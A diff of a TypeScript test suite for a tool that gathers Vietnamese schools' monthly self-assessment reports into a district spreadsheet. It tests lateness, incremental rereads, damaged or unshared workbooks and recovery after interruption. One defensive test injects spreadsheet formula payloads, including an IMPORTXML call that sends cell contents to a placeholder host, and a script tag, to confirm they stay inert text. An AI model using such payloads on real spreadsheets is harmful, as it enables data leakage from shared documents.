@@ -1,309 +1,350 @@
-/** Tổng hợp các trường: who has submitted what, what is late or broken, and that one school's trouble stays with it. */
-import { samplePlans } from '../support/district-world';
-import { DistrictWorld, OPERATOR, type Progress, rowsOf } from './support/district-world';
-import { resultOf } from './support/same-result';
-import { enterMonth, full, type School, schoolsOf, submit } from './support/schools';
+/** Tổng hợp các trường on the local Workspace: complete, exact about what could not be read, repeatable, resumable. */
+import { createHash } from 'node:crypto';
+import { saveFile } from '../../local/services/drive/changes';
+import type { DriveFile } from '../../local/state/records';
+import { cellAt } from '../../local/state/spreadsheet/grid';
+import type { Spreadsheet } from '../../local/state/spreadsheet/model';
+import { DistrictWorld } from './support/district-world';
+import { type School, schoolsOf } from './support/schools';
 
-const SEPTEMBER = '2026-09';
-const at = (day: string, time = '16:00') => Date.parse(`${day}T${time}:00+07:00`);
+const DAY = 24 * 60 * 60 * 1000;
+const SCHOOLS = 4;
 
-/** Each kind of call is stopped at; every single one would take long. */
-const EVERY = 3;
+const opened: DistrictWorld[] = [];
+afterAll(() => {
+  for (const world of opened) world.close();
+});
 
-/** September is over: the first school submitted in time, the second on Monday the 28th, the third not at all. */
-let autumn: DistrictWorld;
-let world: DistrictWorld;
-let schools: [School, School, School];
+type Score = readonly [code: string, maximum: number, self: number];
 
-beforeAll(() => {
-  autumn = DistrictWorld.withTemplate(samplePlans('MN', 'TH', 'THCS'));
-  autumn.provision();
-  const [inTime, late] = schoolsOf(autumn) as [School, School, School];
-  autumn.workspace.clock.set(at('2026-09-24'));
-  enterMonth(inTime, SEPTEMBER, full);
-  submit(inTime, SEPTEMBER);
-  autumn.workspace.clock.set(at('2026-09-28'));
-  enterMonth(late, SEPTEMBER, (each) =>
-    each.code === '1.1.1'
-      ? { notApplicable: false, self: 0, mendWhat: 'Ra quyết định kiện toàn' }
-      : full(each),
+const SCORES: readonly Score[] = [
+  ['1.1.1', 2, 2],
+  ['1.2.1', 2, 1],
+  ['2.3.4', 2, 2],
+];
+
+function snapshotOf(scores: readonly Score[], mend = ''): string {
+  return JSON.stringify({
+    month: '2026-09',
+    settings: 1,
+    points: 'sample',
+    total: {},
+    indicators: scores.map(([code, maximum, self]) => [
+      code,
+      maximum,
+      null,
+      self,
+      false,
+      '',
+      '',
+      '',
+      '',
+      [mend, '', ''],
+    ]),
+  });
+}
+
+/** What submitting leaves behind: the score rows and the closed copy with its digest. */
+function submit(school: School, scores = SCORES, mend = '', submittedAt = '2026-09-24 10:00'): void {
+  school.hand.type(
+    'scores',
+    scores.map(([indicator, maximumPoints, selfPoints]) => ({
+      month: '9/2026',
+      indicator,
+      maximumPoints,
+      selfPoints,
+      notApplicable: false,
+    })),
   );
-  submit(late, SEPTEMBER);
-  autumn.workspace.clock.set(at('2026-09-30'));
-});
-afterAll(() => autumn.close());
-beforeEach(() => {
-  world = autumn.fork();
-  schools = schoolsOf(world) as [School, School, School];
-});
-afterEach(() => world.close());
-
-/** Later by as much as Drive may take to tell of changes. */
-function later(): void {
-  world.workspace.clock.set(world.workspace.clock.now() + 15 * 60 * 1000);
+  const snapshot = snapshotOf(scores, mend);
+  school.hand.type('reports', [
+    {
+      kind: 'Chấm điểm tháng',
+      period: '9/2026',
+      state: 'Đã nộp',
+      submittedAt: `'${submittedAt}`,
+      digest: createHash('sha256').update(snapshot).digest('hex'),
+      snapshot,
+      settingsVersion: '1',
+    },
+  ]);
 }
 
-const september = (table: 'facts' | 'overview') =>
-  world.rows(table).filter(({ month }) => month === '9/2026');
-const factsOf = ({ name }: School) => september('facts').find(({ schoolName }) => schoolName === name) ?? {};
-const overviewOf = ({ name }: School) => september('overview').find(({ school }) => school === name) ?? {};
-const rowOf = ({ account }: School) => world.rows('schools').find((row) => row.account === account) ?? {};
-
-function bookOf({ book }: School) {
-  const spreadsheet = world.workspace.spreadsheets.get(book);
-  if (spreadsheet === undefined) throw new Error('No workbook.');
-  return spreadsheet;
+function provisioned(): DistrictWorld {
+  const world = DistrictWorld.withTemplate(SCHOOLS);
+  world.provision();
+  world.workspace.clock.advance(25 * DAY);
+  return world;
 }
 
-function deleteSheet(school: School, title: string): void {
-  const book = bookOf(school);
-  book.sheets = book.sheets.filter(({ properties }) => properties.title !== title);
-  book.sheets.forEach(({ properties }, index) => {
-    properties.index = index;
-  });
-  touched(school);
+const base = provisioned();
+opened.push(base);
+const fork = (): { world: DistrictWorld; schools: School[] } => {
+  const world = base.fork();
+  opened.push(world);
+  return { world, schools: schoolsOf(world) };
+};
+
+function changeBook(world: DistrictWorld, id: string, change: (spreadsheet: Spreadsheet) => void): void {
+  const spreadsheet = world.workspace.spreadsheets.get(id);
+  if (spreadsheet === undefined) throw new Error(`No workbook ${id}`);
+  const copy = structuredClone(spreadsheet);
+  change(copy);
+  copy.revision += 1;
+  world.workspace.spreadsheets.put(id, copy);
+  touch(world, id);
 }
 
-/** The workbook counts as changed, as after an edit in the browser. */
-function touched(school: School): void {
-  const book = bookOf(school);
-  book.revision += 1;
-  world.workspace.spreadsheets.put(book.id, book);
-  school.hand.change('profile', 'name', school.name, { classes: 20 });
+/** Changes a file, as its feed will tell after a while. */
+function touch(world: DistrictWorld, id: string, more: Partial<DriveFile> = {}): void {
+  const file = world.workspace.files.get(id);
+  if (file === undefined) throw new Error(`No file ${id}`);
+  saveFile(world.workspace, { ...file, ...more, modifiedTime: world.workspace.clock.now() });
 }
 
-const problemsOf = ({ problems }: Progress, { name }: School) =>
-  problems.filter(({ place = '' }) => place.startsWith(name));
+/** Time in which the feed catches up. */
+function wait(world: DistrictWorld): void {
+  world.workspace.clock.advance(DAY);
+}
 
-describe('overview and facts', () => {
-  test('late and missing schools are named with their days, by level', () => {
-    const progress = world.consolidate();
-    expect(progress).toMatchObject({
-      state: 'finished',
-      message: `Tháng 9/2026: 2/3 trường đã nộp; chưa nộp: ${schools[2].name}.`,
-      problems: [],
-    });
-    expect(
-      september('overview').map(({ school, levels, state, daysLate }) => ({
-        school,
-        levels,
-        state,
-        daysLate,
-      })),
-    ).toEqual([
-      { school: schools[0].name, levels: 'MN', state: 'Đã nộp', daysLate: 0 },
-      { school: schools[1].name, levels: 'TH', state: 'Đã nộp', daysLate: 3 },
-      { school: schools[2].name, levels: 'THCS', state: 'Chưa nộp', daysLate: 5 },
-    ]);
-  });
+/** What the district sees, without the moments of reading. */
+function seen(world: DistrictWorld): unknown {
+  return {
+    facts: world.rows('facts').map(({ readAt: _, ...row }) => row),
+    overview: world.rows('overview'),
+    schools: world.rows('schools').map(({ lastRead: _, ...row }) => row),
+  };
+}
 
-  test('rates by criterion and totals are those of the submission', () => {
-    world.consolidate();
-    expect(factsOf(schools[0])).toMatchObject({ criterion11: 1, criterion22: 1 });
-    // One of the eight indicators of criterion 1.1 is not met; it is worth two of the sample's points.
-    expect(factsOf(schools[1])).toMatchObject({ criterion11: 0.875, criterion12: 1 });
-    const { selfTotal, metCount, applicableCount } = factsOf(schools[1]);
-    expect(Number(applicableCount) - Number(metCount)).toBe(1);
-    const { total } = JSON.parse(String(factsOf(schools[1]).snapshot)) as {
-      total: { points: number; maximum: number };
-    };
-    expect(selfTotal).toBe(total.maximum - 2);
-    expect(overviewOf(schools[1]).toMend).toBe('Chưa đạt: 1.1.1.\n1.1.1: Ra quyết định kiện toàn');
-    expect(factsOf(schools[2])).toMatchObject({ selfTotal: '', metCount: '', snapshot: '' });
-  });
+function readsIn(world: DistrictWorld, action: () => void): number {
+  const mark = world.runtime.ledger.mark();
+  action();
+  return world.runtime.ledger.entries(mark).filter(({ kind }) => kind === 'sheets.read').length;
+}
 
-  test('every row links to the workbook of its school', () => {
-    world.consolidate();
-    for (const school of schools) expect(overviewOf(school).workbook).toContain(school.book);
+test('submissions become facts and an overview; the schools without one are named', () => {
+  const { world, schools } = fork();
+  for (const school of schools.slice(0, 2)) submit(school, SCORES, 'Bổ sung minh chứng');
+  const progress = world.consolidate();
+  expect(progress.state).toBe('finished');
+  expect(progress.message).toBe(
+    `Tháng 9/2026: 2/${SCHOOLS} trường đã nộp; chưa nộp: ${schools
+      .slice(2)
+      .map(({ name }) => name)
+      .join(', ')}.`,
+  );
+  const rows = world.rows('overview').filter(({ month }) => month === '9/2026');
+  expect(rows).toHaveLength(SCHOOLS);
+  const first = rows.find(({ school }) => school === schools[0]?.name);
+  expect(first).toMatchObject({
+    state: 'Đã nộp',
+    metCount: 2,
+    applicableCount: 3,
+    selfTotal: 5,
+    daysLate: 0,
   });
-
-  test('run again without changes, nothing changes and no workbook is read', () => {
-    world.consolidate();
-    later();
-    world.consolidate();
-    later();
-    const before = resultOf(world);
-    const mark = world.runtime.ledger.mark();
-    world.consolidate();
-    expect(resultOf(world)).toBe(before);
-    expect(world.runtime.ledger.since(mark).byKind['sheets.read']).toBeUndefined();
+  expect(String(first?.toMend)).toContain('1.2.1');
+  expect(String(first?.toMend)).toContain('Bổ sung minh chứng');
+  expect(rows.find(({ school }) => school === schools[2]?.name)).toMatchObject({
+    state: 'Chưa nộp',
+    daysLate: 1,
   });
-
-  test('what was read in parts equals what is read from the start', () => {
-    world.consolidate();
-    later();
-    schools[0].hand.change('scores', 'indicator', '2.1.1', { selfPoints: 0 });
-    enterMonth(schools[2], SEPTEMBER, full);
-    submit(schools[2], SEPTEMBER);
-    later();
-    world.consolidate();
-    const partly = resultOf(world);
-    expect(world.rows('overview').map(({ state }) => state)).not.toContain('Chưa nộp');
-    world.call('consolidateFromStart');
-    expect(world.finishJob().state).toBe('finished');
-    expect(resultOf(world)).toBe(partly);
-  });
-
-  test('lateness goes on day by day for a school that is not read again', () => {
-    world.consolidate();
-    world.workspace.clock.set(at('2026-10-05'));
-    world.consolidate();
-    expect(factsOf(schools[2])).toMatchObject({ state: 'Chưa nộp', daysLate: 10 });
-    expect(factsOf(schools[1])).toMatchObject({ daysLate: 3 });
-  });
+  const log = world.rows('activity-log').filter(({ what }) => what === 'Nhận bản nộp tháng 9/2026');
+  expect(log.map(({ school }) => school)).toEqual(schools.slice(0, 2).map(({ name }) => name));
 });
 
-describe('a damaged workbook is named with the remedy, the others go on', () => {
-  beforeEach(() => {
-    world.consolidate();
-    later();
-    // News from the others, to see that they are still read.
-    enterMonth(schools[2], SEPTEMBER, full);
-    submit(schools[2], SEPTEMBER);
-  });
+test('only workbooks that changed are read again', () => {
+  const { world, schools } = fork();
+  expect(readsIn(world, () => world.consolidate())).toBe(SCHOOLS);
+  world.workspace.clock.advance(DAY / 24);
+  expect(readsIn(world, () => world.consolidate())).toBe(0);
+  const [one] = schools;
+  if (one) submit(one);
+  world.workspace.clock.advance(DAY / 24);
+  expect(readsIn(world, () => world.consolidate())).toBe(1);
+  expect(world.rows('overview').filter(({ state }) => state === 'Đã nộp')).toHaveLength(1);
+});
 
-  function expectOnlyThatSchool(progress: Progress, words: RegExp): void {
-    expect(progress.state).toBe('finished');
-    const own = problemsOf(progress, schools[0]);
-    expect(own).not.toEqual([]);
-    expect(progress.problems).toEqual(own);
-    expect(own.map(({ message }) => message).join(' ')).toMatch(words);
-    for (const { remedy } of own) expect(remedy.length).toBeGreaterThan(10);
-    expect(rowOf(schools[0]).lastProblem).toMatch(words);
-    expect(overviewOf(schools[0]).problems).toMatch(words);
-    // The last good figures stay.
-    expect(factsOf(schools[0])).toMatchObject({ state: 'Đã nộp', criterion11: 1 });
-    expect(factsOf(schools[2])).toMatchObject({ state: 'Đã nộp', criterion11: 1 });
-    expect(rowOf(schools[1]).lastProblem).toBe('');
+test('renamed and moved sheets, moved columns and columns of their own change nothing', () => {
+  const { world, schools } = fork();
+  for (const school of schools) submit(school);
+  const plain = base.fork();
+  opened.push(plain);
+  for (const school of schoolsOf(plain)) submit(school);
+  plain.consolidate();
+  changeBook(world, schools[1]?.book ?? '', (spreadsheet) => {
+    spreadsheet.sheets.reverse();
+    for (const [index, sheet] of spreadsheet.sheets.entries()) {
+      sheet.properties.index = index;
+      sheet.properties.title = `Trang ${index} (mới)`;
+      // The first column of data goes to the end, a column of the school's own stands in its place.
+      const width = sheet.rows[0]?.length ?? 0;
+      sheet.rows = sheet.rows.map((row) => {
+        if (row === undefined || width < 2) return row;
+        const moved = [...row];
+        moved[width] = row[1];
+        moved[1] = undefined;
+        return moved;
+      });
+      sheet.properties.gridProperties = {
+        ...sheet.properties.gridProperties,
+        columnCount: (sheet.properties.gridProperties?.columnCount ?? 0) + 1,
+      };
+    }
+  });
+  world.consolidate();
+  const strip = (state: DistrictWorld) =>
+    JSON.stringify(state.rows('overview').map(({ workbook: _, ...row }) => row));
+  expect(strip(world)).toBe(strip(plain));
+});
+
+test('a trashed, an unshared, a swapped and a damaged workbook are named with what to do; the last good data stay', () => {
+  const { world, schools } = fork();
+  for (const school of schools) submit(school);
+  world.consolidate();
+  const before = world.rows('facts');
+  const rows = world.rows('schools');
+  const [trashed, unshared, damaged, strange] = schools;
+  if (!trashed || !unshared || !damaged || !strange) throw new Error('Four schools are needed.');
+  wait(world);
+  touch(world, trashed.book, { trashed: true, explicitlyTrashed: true });
+  const folder = String(rows.find(({ name }) => name === unshared.name)?.folderId);
+  for (const id of [folder, unshared.book]) {
+    const owner = world.workspace.files.get(id)?.permissions.filter(({ role }) => role === 'owner') ?? [];
+    touch(world, id, { permissions: owner });
   }
-
-  test('the mark in A1 was overwritten', () => {
-    const sheet = bookOf(schools[0]).sheets.find(({ properties }) => properties.title === 'Báo cáo');
-    const [row] = sheet?.rows ?? [];
-    if (sheet && row) sheet.rows[0] = [{ ...row[0], value: 'Báo cáo' }, ...row.slice(1)];
-    touched(schools[0]);
-    later();
-    expectOnlyThatSchool(world.consolidate(), /A1.*dấu nhận biết/);
-  });
-
-  test('the sheet was deleted; provisioning brings it back', () => {
-    deleteSheet(schools[0], 'Báo cáo');
-    later();
-    expectOnlyThatSchool(world.consolidate(), /Báo cáo/);
-    expect(world.provision().state).toBe('finished');
-    later();
-    expect(problemsOf(world.consolidate(), schools[0])).toEqual([]);
-    expect(rowOf(schools[0]).lastProblem).toBe('');
-    // The sheet came back empty, but what was submitted is the district's.
-    expect(factsOf(schools[0])).toMatchObject({ criterion11: 1, changedAfterSubmission: true });
-  });
-
-  test('the workbook is in the trash; provisioning takes it out', () => {
-    expect(world.asDrive(OPERATOR, 'PATCH', `/files/${schools[0].book}`, { trashed: true })).toBe(200);
-    later();
-    expectOnlyThatSchool(world.consolidate(), /thùng rác/);
-    world.provision();
-    later();
-    expect(world.consolidate().problems).toEqual([]);
-  });
-
-  test('the workbook was deleted for good', () => {
-    expect(world.asDrive(OPERATOR, 'DELETE', `/files/${schools[0].book}`)).toBe(204);
-    later();
-    expectOnlyThatSchool(world.consolidate(), /đã bị xóa/);
-  });
-
-  test('the school was shut out; provisioning shares again', () => {
-    const folder = world.workspace.files.get(String(rowOf(schools[0]).folderId));
-    const permission = folder?.permissions.find(({ emailAddress }) => emailAddress === schools[0].account);
-    expect(world.asDrive(OPERATOR, 'DELETE', `/files/${folder?.id}/permissions/${permission?.id}`)).toBe(204);
-    later();
-    expectOnlyThatSchool(world.consolidate(), /không còn được chia sẻ/);
-    world.provision();
-    later();
-    expect(world.consolidate().problems).toEqual([]);
-  });
-
-  test('a stranger has access', () => {
-    const stranger = { type: 'user', role: 'reader', emailAddress: 'nguoila@gmail.example' };
-    world.asDrive(
-      OPERATOR,
-      'POST',
-      `/files/${schools[0].book}/permissions?sendNotificationEmail=false`,
-      stranger,
+  changeBook(world, damaged.book, (spreadsheet) => {
+    const sheet = spreadsheet.sheets.find(({ rows: [first] }) =>
+      String(first?.[0]?.value).startsWith('thdt:reports@'),
     );
-    later();
-    expectOnlyThatSchool(world.consolidate(), /nguoila@gmail\.example/);
+    if (sheet?.rows[0]) sheet.rows[0] = [{ value: 'ghi đè' }, ...sheet.rows[0].slice(1)];
   });
-
-  test("the row names another school's workbook: its figures are not taken for this school's", () => {
-    world.hand().change('schools', 'account', schools[0].account, { workbookId: schools[1].book });
-    world.call('consolidateFromStart');
-    expectOnlyThatSchool(world.finishJob(), /không phải của trường ở dòng này/);
+  changeBook(world, strange.book, (spreadsheet) => {
+    const sheet = spreadsheet.sheets.find(({ rows: [first] }) =>
+      String(first?.[0]?.value).startsWith('thdt:about@'),
+    );
+    if (!sheet) return;
+    sheet.rows = sheet.rows.map((row) =>
+      row?.some((cell) => cell?.value === 'schoolId')
+        ? row.map((cell) =>
+            cell?.value === rows.find(({ name }) => name === strange.name)?.id ? { value: 'khác' } : cell,
+          )
+        : row,
+    );
   });
-
-  test('cells that nobody can read are named with their address', () => {
-    schools[0].hand.type('reports', [{ kind: 'Báo cáo khác', period: 'tháng mười ba', state: 'Đã nộp' }]);
-    later();
-    const [problem] = problemsOf(world.consolidate(), schools[0]);
-    expect(problem?.place).toMatch(/Báo cáo!\p{L}+\d+/u);
-    expect(factsOf(schools[0])).toMatchObject({ state: 'Đã nộp', criterion11: 1 });
-  });
-
-  test('a copy that is no copy is named, not trusted', () => {
-    schools[1].hand.change('reports', 'period', '9/2026', {
-      snapshot: '{"indicators":',
-      submittedAt: '2026-09-29 09:00',
-    });
-    later();
-    expect(world.consolidate().state).toBe('finished');
-    expect(factsOf(schools[1]).problem).toContain('không đọc được');
-    expect(overviewOf(schools[1]).problems).toContain('đề nghị trường nộp lại');
-  });
+  wait(world);
+  const progress = world.consolidate();
+  expect(progress.state).toBe('finished');
+  const codes = new Map(
+    progress.problems.map(({ code, place, remedy }) => [place?.split(',')[0], { code, remedy }]),
+  );
+  expect(codes.get(trashed.name)?.code).toBe('school.trashed');
+  expect(codes.get(unshared.name)?.code).toBe('school.unshared');
+  expect(codes.get(damaged.name)?.code).toMatch(/^table\./);
+  expect(codes.get(strange.name)?.code).toBe('school.other-workbook');
+  for (const { remedy } of codes.values()) expect(remedy).toMatch(/\S/);
+  for (const school of world.rows('schools')) expect(String(school.lastProblem)).toMatch(/\S/);
+  const figures = (all: Record<string, unknown>[]) =>
+    all.map(({ id, state, selfTotal, snapshot }) => ({ id, state, selfTotal, snapshot }));
+  expect(figures(world.rows('facts'))).toEqual(figures(before));
 });
 
-test('text of a school never becomes a formula, wherever it lands in the workbook of the office', () => {
-  const formula = '=IMPORTXML("https://tham.example/?"&A1,"//a")';
-  const script = '<script>alert(1)</script>';
-  enterMonth(schools[2], SEPTEMBER, (each) =>
-    each.code === '1.1.1'
-      ? { notApplicable: false, self: 0, mendWhat: formula }
-      : { ...full(each), note: script },
-  );
-  submit(schools[2], SEPTEMBER);
-  for (const value of [formula, '+HYPERLINK("https://tham.example")', script]) {
-    schools[2].hand.change('reports', 'period', '9/2026', {
-      submittedAt: `'${value}`,
-      settingsVersion: `'${value}`,
+test('what a school typed never becomes a formula of the district', () => {
+  const { world, schools } = fork();
+  const hostile = '=IMPORTXML("http://x.example","//a")';
+  const [school] = schools;
+  if (!school) throw new Error('A school is needed.');
+  submit(school, SCORES, hostile);
+  school.hand.type('reports', [
+    {
+      kind: 'Chấm điểm tháng',
+      period: '10/2026',
+      state: 'Đã nộp',
+      submittedAt: `'${hostile}`,
+      digest: `'+1`,
+      snapshot: `'${hostile}`,
+    },
+  ]);
+  world.consolidate();
+  world.workspace.clock.advance(10 * DAY);
+  world.consolidate();
+  const district = world.workspace.spreadsheets.get(world.spreadsheetId);
+  for (const sheet of district?.sheets ?? []) {
+    sheet.rows.forEach((row, index) => {
+      (row ?? []).forEach((_, column) => {
+        expect(cellAt(sheet, index, column)?.formula).toBeUndefined();
+      });
     });
-    schools[2].hand.change('about', 'key', 'scriptVersion', { value: `'${value}` });
-    schools[2].hand.type('reports', [{ kind: `'${value}`, period: `'${value}` }]);
-    later();
-    expect(world.consolidate().state).toBe('finished');
   }
-  expect(rowsOf(world.workspace, schools[2].book, 'about').map(({ value }) => value)).toContain(script);
-  const cells = (world.workspace.spreadsheets.get(world.spreadsheetId)?.sheets ?? []).flatMap(({ rows }) =>
-    rows.flatMap((row) => [...(row ?? [])]),
-  );
-  expect(cells.some((cell) => String(cell?.value).includes(formula))).toBe(true);
-  expect(cells.filter((cell) => cell?.formula !== undefined)).toEqual([]);
-  expect(cells.filter((cell) => cell?.format?.textFormat?.link !== undefined)).toEqual([]);
+  expect(JSON.stringify(world.rows('overview'))).toContain('IMPORTXML');
 });
 
-test('stopped at any call, the next run ends with the same overview', () => {
-  world.call('consolidateSchools');
-  const undisturbed = world.fork();
+test('a copy changed after it was seen shows, and the district keeps its own', () => {
+  const { world, schools } = fork();
+  const [school] = schools;
+  if (!school) throw new Error('A school is needed.');
+  submit(school);
+  world.consolidate();
+  wait(world);
+  const better: readonly Score[] = SCORES.map(([code, maximum]) => [code, maximum, maximum]);
+  const snapshot = snapshotOf(better);
+  school.hand.change('reports', 'period', '9/2026', {
+    snapshot,
+    digest: createHash('sha256').update(snapshot).digest('hex'),
+  });
+  wait(world);
+  world.consolidate();
+  const facts = world
+    .rows('facts')
+    .find(({ schoolName, month }) => schoolName === school.name && month === '9/2026');
+  expect(facts).toMatchObject({
+    selfTotal: 5,
+    metCount: 2,
+    changedAfterSubmission: true,
+    snapshot: snapshotOf(SCORES),
+  });
+});
+
+test('stopped at any call, the next run ends as the undisturbed one', () => {
+  const { world: start, schools } = fork();
+  for (const school of schools.slice(0, 3)) submit(school);
+  start.call('consolidateSchools');
+  const undisturbed = start.fork();
+  opened.push(undisturbed);
   const stops = undisturbed.runtime.ledger.stopsOf(undisturbed.run('continueJob').record.id);
-  const expected = resultOf(undisturbed);
-  undisturbed.close();
-  const different: string[] = [];
-  for (let stop = 1; stop <= stops.length; stop += EVERY) {
-    const killed = world.fork();
+  const expected = seen(undisturbed);
+  for (let stop = 1; stop <= stops.length; stop += 3) {
+    const killed = start.fork();
     killed.runtime.faults.killAtCall(stop, 'continueJob');
     expect(killed.run('continueJob').status).toBe('killed');
-    expect(killed.finishJobInDays().state).toBe('finished');
-    if (resultOf(killed) !== expected) different.push(`before call ${stop} (${stops[stop - 1]?.what})`);
+    expect({ stop, state: killed.finishJob().state }).toEqual({ stop, state: 'finished' });
+    expect({ stop, what: stops[stop - 1]?.what, seen: seen(killed) }).toEqual({
+      stop,
+      what: stops[stop - 1]?.what,
+      seen: expected,
+    });
     killed.close();
   }
-  expect(different).toEqual([]);
+});
+
+test('after any sequence of edits a rebuild from the start gives the same, cell by cell', () => {
+  const { world, schools } = fork();
+  const [one, two, three] = schools;
+  if (!one || !two || !three) throw new Error('Three schools are needed.');
+  submit(one);
+  world.consolidate();
+  wait(world);
+  submit(two, SCORES.slice(0, 2), 'Sửa sổ', '2026-09-27 08:00');
+  world.consolidate();
+  wait(world);
+  three.hand.type('scores', [
+    { month: '9/2026', indicator: '1.1.1', maximumPoints: 2, selfPoints: 1, notApplicable: false },
+  ]);
+  one.hand.change('scores', 'indicator', '1.1.1', { selfPoints: 1 });
+  wait(world);
+  world.consolidate();
+  const incremental = seen(world);
+  world.call('consolidateFromStart');
+  expect(world.finishJob().done).toBe(SCHOOLS);
+  expect(seen(world)).toEqual(incremental);
 });
